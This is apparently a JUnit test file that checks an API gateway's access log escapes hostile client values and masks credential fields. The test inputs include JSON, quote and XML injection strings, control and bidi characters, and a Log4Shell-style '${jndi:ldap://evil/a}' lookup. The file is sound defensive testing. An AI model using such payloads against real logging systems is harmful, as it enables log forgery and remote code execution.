package io.apigw.runtime.monitor;

import static org.assertj.core.api.Assertions.assertThat;

import io.apigw.api.ApiKind;
import io.apigw.api.JsonValue;
import io.apigw.api.Principal;
import io.apigw.api.Request;
import io.apigw.api.monitor.AccessLog;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AccessLogHostileTest {

  private final List<String> lines = new ArrayList<>();

  @Test
  void textOfTheClientCannotLeaveItsPlaceInJson() {
    assertThat(jsonOf("\",\"admin\":true,\"x\":\"\\"))
        .isEqualTo("\\\",\\\"admin\\\":true,\\\"x\\\":\\\"\\\\");
  }

  @Test
  void textOfTheClientCannotLeaveItsQuotesInAnyFormat() {
    assertThat(lineOf("id=$context.requestId ua=\"$context.authorizer.x\"", "a\" status=\"200\\"))
        .isEqualTo("id=id-1 ua=\"a\\\" status=\\\"200\\\\\"");
  }

  @Test
  void textOfTheClientCannotMakeTags() {
    assertThat(lineOf("<r id=\"$context.requestId\"><x>$context.authorizer.x</x></r>", "</x>&'\""))
        .isEqualTo("<r id=\"id-1\"><x>&#60;/x&#62;&#38;&#39;&#34;</x></r>");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\r", "\n", "\u0000", "\u001b", "\u0085", "\u2028", "\u2029", "\u202e", "\u2066", "\u200f",
        "\u061c", "\ud800"
      })
  void anEntryIsOneLineOfVisibleText(String character) {
    String escaped = String.format("\\u%04x", (int) character.charAt(0));
    assertThat(jsonOf("a" + character + "b")).isEqualTo("a" + escaped + "b");
    assertThat(lineOf("$context.requestId $context.authorizer.x", "a" + character + "b"))
        .isEqualTo("id-1 a" + escaped + "b");
  }

  @Test
  void aLookupOfALoggingLibraryIsNotWrittenAsOne() {
    assertThat(jsonOf("${jndi:ldap://evil/a}")).isEqualTo("\\u0024{jndi:ldap://evil/a}");
  }

  @Test
  void aValueOfAMegabyteIsCut() {
    assertThat(jsonOf("x".repeat(1 << 20))).isEqualTo("x".repeat(1024) + " [TRUNCATED]");
    assertThat(jsonOf("é".repeat(1000))).isEqualTo("é".repeat(512) + " [TRUNCATED]");
    assertThat(jsonOf("😀".repeat(1000))).isEqualTo("😀".repeat(256) + " [TRUNCATED]");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "token",
        "accessToken",
        "access_token",
        "password",
        "apiKey",
        "authorization",
        "sessionToken"
      })
  void aValueThatIsNamedLikeACredentialIsMasked(String name) {
    Recording record = Records.rest(Request.get("/"));
    record.principal(Principal.of("a").with(name, JsonValue.of("very-secret")));
    AccessLogMonitorTest.ready(
            AccessLog.json(lines::add, "requestId", "authorizer." + name), ApiKind.REST)
        .finished(record);
    assertThat(lines)
        .containsExactly("{\"requestId\":\"id-1\",\"authorizer." + name + "\":\"***\"}");
  }

  @Test
  void theApiKeyIsMaskedAndItsIdIsNot() {
    Recording record = Records.rest(Request.get("/").withHeader("x-api-key", "very-secret"));
    record.apiKeyId("key-1");
    AccessLogMonitorTest.ready(
            AccessLog.of(
                "$context.requestId $context.identity.apiKey $context.identity.apiKeyId",
                lines::add),
            ApiKind.REST)
        .finished(record);
    assertThat(lines).containsExactly("id-1 *** key-1");
  }

  private String jsonOf(String value) {
    String line = line(AccessLog.json(lines::add, "requestId", "authorizer.x"), value);
    return line.substring(
        "{\"requestId\":\"id-1\",\"authorizer.x\":\"".length(), line.length() - 2);
  }

  private String lineOf(String format, String value) {
    return line(AccessLog.of(format, lines::add), value);
  }

  private String line(AccessLog log, String value) {
    Recording record = Records.rest(Request.get("/"));
    record.principal(Principal.of("a").with("x", JsonValue.of(value)));
    AccessLogMonitorTest.ready(log, ApiKind.REST).finished(record);
    return lines.remove(0);
  }
}
